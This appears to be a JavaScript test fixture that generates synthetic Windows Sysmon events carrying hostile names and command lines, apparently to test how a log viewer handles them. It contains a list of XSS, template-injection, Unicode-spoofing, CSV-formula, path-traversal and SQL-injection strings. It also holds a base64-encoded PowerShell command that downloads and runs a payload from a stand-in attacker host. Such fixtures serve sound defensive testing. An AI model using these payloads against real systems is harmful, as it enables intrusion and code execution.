// Events as a sensor would log them on a machine where an attacker chose every name, path and command line.
import { writeFileSync } from 'node:fs';

export const attacks = [
  '<script>window.pwned=1</script>',
  '</script><script>window.pwned=1</script>',
  '</title><svg/onload=window.pwned=1>',
  '<img src=x onerror=window.pwned=1>',
  '"><img src=http://attacker.example/x onerror=window.pwned=1>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '" onmouseover="window.pwned=1" x="',
  "' autofocus onfocus='window.pwned=1",
  'javascript:window.pwned=1',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  "<style>@import 'http://attacker.example/x.css';</style>",
  '<meta http-equiv=refresh content=0;url=http://attacker.example/>',
  '<base href=http://attacker.example/>',
  '<a href=http://attacker.example ping=http://attacker.example>click</a>',
  "{{constructor.constructor('window.pwned=1')()}}",
  '${window.pwned=1}',
  '<!--proclens:map--><!--',
  '__proto__',
  'constructor',
  'invoice\u202efdp.exe',
  '\u2066isolated\u2069 \u061c\u200f mark',
  '\u001b[2J\u001b]0;owned\u0007 bell',
  'line\nbreak\r\nand\ttab',
  'zero\u200bwidth\ufeff',
  "=cmd|'/c calc'!A1",
  '../../../../etc/passwd',
  "'; DROP TABLE process; --",
  '%s%n{}%00',
  '\u{1f4a3} 文字',
];

/** As long as a command line can get, with an attack at its very end. */
export const longCommand = `\"c:\\long.exe\" ${'A'.repeat(10_000_000)}<img src=x onerror=window.pwned=1>needle-at-the-end`;

/** What one process's command line hides in base64: a download, and an attack on whoever has it decoded. */
export const hidden = "IEX (iwr 'http://attacker.example/hidden-payload') #<img src=x onerror=window.pwned=1>\u202e";

const encodedCommand = `powershell.exe -nop -enc ${Buffer.from(hidden, 'utf16le').toString('base64')}`;

const guid = (number) => `{${number.toString(16).padStart(8, '0')}-0000-4000-8000-${(number * 7919).toString(16).padStart(12, '0')}}`;

/** Writes JSON lines of process starts and image loads; returns their number of processes. */
export function writeHostileEvents(file) {
  const lines = [];
  const put = (event) => lines.push(JSON.stringify({ Channel: 'Microsoft-Windows-Sysmon/Operational', ...event }));
  const processes = 12 * attacks.length;
  for (let i = 0; i < processes; ++i) {
    const attack = (shift) => attacks[(i + shift) % attacks.length];
    const time = (seconds) => new Date(Date.UTC(2024, 2, 5, 8, 0, seconds)).toISOString().replace('T', ' ').replace('Z', '');
    const Image = `c:\\temp\\${attack(0)}`;
    put({
      EventID: 1, UtcTime: time(i), Hostname: attack(5), ProcessGuid: guid(i + 1), ProcessId: String(1000 + i), Image,
      CommandLine: i === 3 ? longCommand : i === 10 ? encodedCommand : `${attack(1)} ${i}`, User: attack(9), ParentProcessGuid: guid(Math.floor(i / 3)), ParentProcessId: String(999 + Math.floor(i / 3)),
    });
    // What a process loads depends on its name and a little on chance, so that clusters form.
    const group = i % 6;
    for (let k = 0; k < 8; ++k) {
      const ImageLoaded = `c:\\windows\\${group}\\${attacks[(group * 5 + k + (k === 7 ? i % 4 : 0)) % attacks.length]}.dll`;
      put({ EventID: 7, UtcTime: time(i + 1), Hostname: attack(5), ProcessGuid: guid(i + 1), ProcessId: String(1000 + i), Image, ImageLoaded });
    }
  }
  writeFileSync(file, `${lines.join('\n')}\n`);
  return processes;
}
